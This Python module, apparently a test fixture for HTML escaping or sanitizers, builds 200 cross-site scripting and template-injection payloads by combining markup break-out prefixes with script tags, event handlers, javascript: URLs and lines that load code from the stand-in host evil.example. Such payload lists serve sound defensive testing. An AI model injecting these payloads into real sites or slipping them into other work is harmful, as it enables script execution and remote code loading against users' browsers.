"""Two hundred texts that run something where they are taken for markup."""

from typing import Final

BREAKING_OUT: Final = (
    "",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "</script>",
    "-->",
    "]]>",
    '" ',
    "' ",
)
RUNNING: Final = (
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<style>@import '//evil.example/x.css'</style>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "autofocus onfocus=alert(1) x=",
    "{{7*7}}${alert(1)}<%= 7*7 %>",
)
PAYLOADS: Final = tuple(start + text for start in BREAKING_OUT for text in RUNNING)
# All of them in one text: whatever shows it shows two hundred.
ALL: Final = "\n".join(PAYLOADS)
